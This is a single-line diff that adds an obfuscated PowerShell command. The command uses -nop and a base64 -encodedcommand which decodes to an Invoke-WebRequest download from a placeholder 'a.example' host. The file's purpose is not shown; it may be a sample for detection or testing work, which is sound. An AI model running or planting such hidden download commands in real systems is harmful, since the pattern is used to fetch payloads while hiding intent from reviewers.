@@ -1,0 +1,1 @@
+powershell.exe -nop -encodedcommand aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AcAAvAHgALgB0AHgAdAA=
